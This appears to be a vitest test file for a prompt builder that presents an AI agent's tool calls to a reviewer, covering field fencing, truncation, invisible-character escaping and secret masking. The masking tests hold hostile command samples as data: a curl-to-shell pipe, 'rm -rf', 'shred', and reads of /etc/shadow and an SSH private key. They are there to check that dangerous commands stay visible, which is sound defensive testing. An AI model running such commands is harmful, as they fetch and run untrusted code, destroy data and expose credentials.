import { ReviewRequest } from '@countersign/protocol';
import { describe, expect, test } from 'vitest';
import { ORDINARY } from '../../test/guardian-under-test.ts';
import { fence } from './fence.ts';
import { maskSecrets } from './mask-secrets.ts';
import { buildPrompt } from './prompt.ts';
import { visibleText } from './visible-text.ts';

const WORD = '00112233445566778899aabb';

test('an ordinary call is told whole, each field with who says so', () => {
  const request = ReviewRequest.fromPartial({ ...ORDINARY, requestFromPerson: true, inspection: 'profile: networked' });
  const { prompt, complete } = buildPrompt(request, 'call', WORD);
  const block = (label: string, source: string, text: string) =>
    `${label}, ${source}${text === '' ? ' (empty)' : ''}\n<<${WORD} ${label}\n| ${text}\n${WORD}>>`;
  expect(complete).toBe(true);
  expect(prompt.user).toBe(
    [
      block('role', 'enrolled by the operator', 'agent builder of ann'),
      block('task', 'enrolled by the operator', 'keeps the tests of the shop green'),
      block('request', 'stated by a person', 'run the unit tests'),
      block('project', 'enrolled by the operator', '/srv/shop'),
      block('sessions', 'found by the gateway', 'ses_a'),
      block('inspection', 'found by the gateway', 'profile: networked'),
      block('tool', 'found by the gateway', 'bash'),
      block('action', 'found by the gateway', 'execute'),
      block('resource', 'found by the gateway', ''),
      block('scope', 'found by the gateway', '/srv/shop'),
      block('argument command', 'stated by the agent', 'npm test'),
    ].join('\n\n'),
  );
});

test('a request text is the agent’s word unless a person gave it', () => {
  const { prompt } = buildPrompt(ReviewRequest.fromPartial(ORDINARY), 'call', WORD);
  expect(prompt.user).toContain('request, stated by the agent\n');
});

test('a cut is stated with its length, at head and tail what was there', () => {
  const text = `${'a'.repeat(200)}${'b'.repeat(1_000)}${'c'.repeat(100)}`;
  const cut = fence({ label: 'request', source: 'x', text, limit: 300 }, WORD);
  expect(cut.cut).toBe(true);
  expect(cut.text.split('\n').slice(2, -1)).toEqual([
    `| ${'a'.repeat(200)}`,
    `| [${WORD} cut: 1000 characters are not shown]`,
    `| ${'c'.repeat(100)}`,
  ]);
});

test('text that grows by escaping or marking stays bounded, and the cut is stated', () => {
  for (const text of ['\u200b'.repeat(4_000), '#\n'.repeat(2_000), '# '.repeat(2_000), '\n'.repeat(3_999)]) {
    const grown = fence({ label: 'request', source: 'x', text, limit: 4_000 }, WORD);
    expect(grown.cut).toBe(true);
    expect(grown.text).toContain(`[${WORD} cut: `);
    expect(grown.text.length).toBeLessThan(17_000);
  }
});

test('a call of the longest arguments is built within a second of processor time', () => {
  const longest = [
    'KEY'.repeat(200_000),
    'eyJ-'.repeat(150_000),
    '# $A=KEY= '.repeat(60_000),
    '<user '.repeat(100_000),
  ];
  const before = process.threadCpuUsage();
  for (const command of longest)
    buildPrompt(ReviewRequest.fromPartial({ detail: JSON.stringify({ command }), requestText: command }), 'call', WORD);
  expect(process.threadCpuUsage(before).user).toBeLessThan(1_000_000 * longest.length);
});

test('characters that cannot be seen are written out, and visible ones of any script stay', () => {
  expect(visibleText('a\u200bb\u202ec\u0000\u{e0041}\u00a0\r\n\rd')).toBe(
    'a\\u{200b}b\\u{202e}c\\u{0}\\u{e0041}\\u{a0}\n\\u{d}d',
  );
  expect(visibleText('grüße 你好 дом 😀 – “x”\ty')).toBe('grüße 你好 дом 😀 – “x”\\u{9}y');
});

describe('masking', () => {
  test.each([
    ['API_KEY=abc12345 npm test', 'API_KEY=‹masked› npm test'],
    ["PGPASSWORD='hunter22' psql", "PGPASSWORD='‹masked›' psql"],
    ['{"api_token": "abcd1234"}', '{"api_token": "‹masked›"}'],
    ['curl -H "Authorization: Bearer abc.def"', 'curl -H "Authorization: Bearer ‹masked›"'],
    ['git clone https://ann:pa55word@x.example/r', 'git clone https://ann:‹masked›@x.example/r'],
    ['echo ghp_abcdefghijklmnop1234', 'echo ‹masked›'],
    ['echo eyJhbGciOiJI.eyJzdWIiOiIx.c2ln', 'echo ‹masked›'],
    ['TOKEN=abcdefgh12345678; curl -d $TOKEN x', 'TOKEN=‹masked›; curl -d $TOKEN x'],
  ])('hides the secret of %s', (text, masked) => expect(maskSecrets(text)).toBe(masked));

  test.each([
    'TOKEN=$(curl http://x.example/a|sh)',
    'TOKEN=`rm -rf data`',
    'KEY=shred; $KEY data',
    `KEY=shred; \${KEY} data`,
    'KEY_FILE=/etc/shadow cat',
    'SECRET=https://x.example/a.sh',
    'KEY=~/.ssh/id_ed25519',
    'rm -rf data',
  ])('does not hide what %s does', (text) => expect(maskSecrets(text)).toBe(text));
});
